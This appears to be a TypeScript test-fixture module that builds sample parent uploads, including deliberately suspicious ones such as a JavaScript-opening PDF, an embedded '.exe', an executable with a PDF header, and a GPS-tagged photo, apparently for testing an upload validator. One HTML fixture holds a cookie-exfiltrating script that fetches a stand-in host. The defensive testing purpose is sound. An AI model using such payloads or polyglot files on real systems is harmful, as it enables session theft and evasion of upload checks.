/**
 * Files a parent might upload, built in code: real PDFs (pdf-lib) and photos (sharp), harmless
 * and harmful ones, so each test says what it sends.
 */
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";

const enc = (s: string) => new TextEncoder().encode(s);
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

async function onePage(edit?: (doc: PDFDocument) => void | Promise<void>, useObjectStreams = true): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]).drawText("Birth certificate", { x: 50, y: 780, size: 14 });
  await edit?.(doc);
  return doc.save({ useObjectStreams });
}

/** A plain one-page scan. */
export const plainPdf = (useObjectStreams = true) => onePage(undefined, useObjectStreams);

/** Opens by running JavaScript (the action dictionary sits in a compressed object stream). */
export const pdfWithJavaScriptOpenAction = (useObjectStreams = true) =>
  onePage((doc) => {
    const action = doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of("app.alert('hi')") });
    doc.catalog.set(PDFName.of("OpenAction"), action);
  }, useObjectStreams);

/** Carries another file inside (the /EmbeddedFiles names tree). */
export const pdfWithEmbeddedFile = () =>
  onePage(async (doc) => {
    await doc.attach(enc("MZ\x90\x00 not really a program"), "invoice.exe", { mimeType: "application/octet-stream" });
  });

/** A real PDF after a few bytes of something else: readers skip the junk, so can a program. */
export const pdfAfterJunk = async () => concat(enc("MZ\x90\x00\x03\x00\x00\x00"), await plainPdf());

/** A Windows executable whose first kilobyte also says "%PDF-" (what readers look for). */
export const exeWithPdfHeader = () =>
  concat(enc("MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.\n"), enc("%PDF-1.4\n"), new Uint8Array(600));

/** A web page with a script, also mentioning "%PDF-" early on. */
export const htmlWithScript = () =>
  enc("<!doctype html><html><!-- %PDF-1.4 --><body><script>fetch('//x.example/'+document.cookie)</script></body></html>");

/** Almaty, as a phone writes it into EXIF. */
export const GPS = { latitude: "43/1 14/1 2000/100", longitude: "76/1 53/1 2400/100" };

/** A photo of a document with the camera's EXIF: GPS position and make. */
export async function jpegWithGps(width = 64, height = 48): Promise<Uint8Array> {
  const buf = await sharp({ create: { width, height, channels: 3, background: "#d0c8b0" } })
    .jpeg()
    .withExif({
      IFD0: { Make: "PhoneMaker", Model: "Phone 12" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: GPS.latitude, GPSLongitudeRef: "E", GPSLongitude: GPS.longitude },
    })
    .toBuffer();
  return new Uint8Array(buf);
}

export const pngImage = async (width = 32, height = 32) =>
  new Uint8Array(
    await sharp({ create: { width, height, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.5 } } })
      .png()
      .toBuffer(),
  );

export const webpImage = async () =>
  new Uint8Array(
    await sharp({ create: { width: 20, height: 20, channels: 3, background: "#00ff00" } })
      .webp()
      .toBuffer(),
  );

/** True when the bytes carry an EXIF block anywhere. */
export const hasExif = (b: Uint8Array) => Buffer.from(b).includes("Exif\0\0");
